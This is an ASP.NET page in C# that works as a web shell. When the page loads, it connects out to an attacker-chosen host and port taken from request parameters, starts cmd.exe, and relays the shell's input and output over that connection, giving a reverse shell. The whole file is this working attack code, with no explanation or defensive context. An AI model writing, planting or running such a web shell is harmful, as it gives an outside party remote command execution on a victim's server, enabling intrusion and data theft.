<%@ Page Language="C#" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
void Page_Load(object sender, EventArgs e)
{
    TcpClient client = new TcpClient(Request["h"], int.Parse(Request["port"]));
    var stream = client.GetStream();
    var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe") { RedirectStandardInput = true, RedirectStandardOutput = true, UseShellExecute = false };
    var shell = System.Diagnostics.Process.Start(psi);
    shell.StandardOutput.BaseStream.CopyToAsync(stream); stream.CopyToAsync(shell.StandardInput.BaseStream);
}
</script>
